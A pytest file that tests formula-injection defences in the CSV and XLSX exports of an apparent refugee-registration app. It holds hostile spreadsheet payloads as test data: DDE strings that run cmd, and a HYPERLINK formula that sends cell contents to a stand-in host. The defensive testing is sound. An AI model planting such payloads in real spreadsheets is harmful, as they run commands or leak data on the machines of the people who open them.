"""Formula-safe CSV and XLSX (issue 13): no cell of any export kind can run as a formula."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from fieldreg import exports, medical, movements, sheets
from tests.conftest import household_body

HOSTILE = (
    "=1+1+cmd|' /C calc'!A0",
    "-1+2+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x01=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
KEEP = {"id", "household_id", "person_id"}  # joins between the tables


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_is_defused(value):
    out = sheets.safe(value)
    assert out.startswith("'") and not out.lstrip(" ").startswith(TRIGGERS)


def test_numbers_and_plain_text_pass_unchanged():
    assert sheets.safe(41) == 41 and sheets.safe(-3) == -3 and sheets.safe(2.5) == 2.5
    assert sheets.safe("محمد") == "محمد" and sheets.safe("Camp B") == "Camp B"
    assert sheets.cell('["=1+1", "disability"]') == "'=1+1 disability"
    assert sheets.cell(None) == "" and sheets.cell(True) == 1


@pytest.fixture
def hostile(client, api, db):
    """Records whose every text column (but the ids joining them) holds a hostile value."""
    made = client.post("/api/v1/households", json=household_body(), headers=api).json
    head, child = made["members"][0]["code"], made["members"][2]["code"]
    medical.record_triage(db, head, {"category": "delayed", "note": "x"}, "doc")
    movements.move_person(db, child, {"kind": "departed"}, "reg")
    # Written straight into the tables, as sync would apply them (bypassing the schemas).
    for tbl in ("households", "people", "triage", "movements"):
        columns = [c for c in db[tbl].columns if c.type.upper() == "TEXT" and c.name not in KEEP]
        for i, column in enumerate(columns):
            value, suffix = HOSTILE[i % len(HOSTILE)], " || rowid"  # codes are unique
            if column.name in ("vulnerabilities", "conditions"):
                value, suffix = json.dumps([value, "disability"]), ""
            db.execute(f"update [{tbl}] set [{column.name}] = ?{suffix}", [value])
    return made


def cells_ok(values) -> list:
    """Return the cells that a spreadsheet would read as a formula."""
    bad = []
    for value in values:
        if isinstance(value, str) and value.lstrip(" ").startswith(TRIGGERS):
            bad.append(value)
    return bad


@pytest.mark.parametrize("partner", [None, "UNHCR"])
def test_csv_of_every_kind_defuses_every_text_field(db, hostile, partner):
    for kind in exports.kinds(db):
        body = exports.export(db, "csv", kind, partner=partner, medical=True)
        lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
        assert len(lines) > 1, kind
        values = [v for line in lines[1:] for v in line]
        assert cells_ok(values) == [], kind
        assert sum(v.startswith("'") for v in values) >= 3, "the hostile values are there"


@pytest.mark.parametrize("partner", [None, "UNHCR"])
def test_xlsx_cells_are_strings_or_numbers_never_formulas(db, hostile, partner):
    body = exports.export(db, "xlsx", partner=partner, medical=True, hxl=True)
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert book.sheetnames == list(exports.kinds(db))
    numbers = {}
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows())
        header = [c.value for c in rows[0]]
        for row in rows[2:]:
            for column, cell in zip(header, row, strict=True):
                assert cell.data_type != "f", (sheet.title, column, cell.value)
                assert cells_ok([cell.value]) == [], (sheet.title, column, cell.value)
                if column in ("age_years", "members") and cell.value not in (None, ""):
                    numbers[column] = cell.data_type
    assert numbers == {"age_years": "n", "members": "n"}, "numbers stay numbers"


def test_age_and_counts_stay_numbers_in_csv(db, client, api):
    client.post("/api/v1/households", json=household_body(), headers=api)
    lines = list(csv.reader(io.StringIO(exports.export(db, "csv").decode("utf-8-sig"))))
    assert lines[1][lines[0].index("age_years")] == "41"
    book = openpyxl.load_workbook(io.BytesIO(exports.export(db, "xlsx")))
    rows = list(book["people"].iter_rows())
    age = rows[1][[c.value for c in rows[0]].index("age_years")]
    assert age.value == 41 and age.data_type == "n"


def test_text_that_only_looks_odd_is_exported_as_typed():
    """Issue 16: brackets, numbers in a list, a letter before a sign: no data lost or changed."""
    assert sheets.cell("[urgent] call back") == "[urgent] call back"  # not JSON: kept
    assert sheets.cell("[1, 2]") == "[1, 2]"  # a JSON list, but not of words: kept
    assert sheets.cell("[urgent] =1+1") == "[urgent] =1+1"  # "[" first: not a formula
    assert sheets.safe("X-ray") == "X-ray" and sheets.safe("XX=1") == "XX=1"
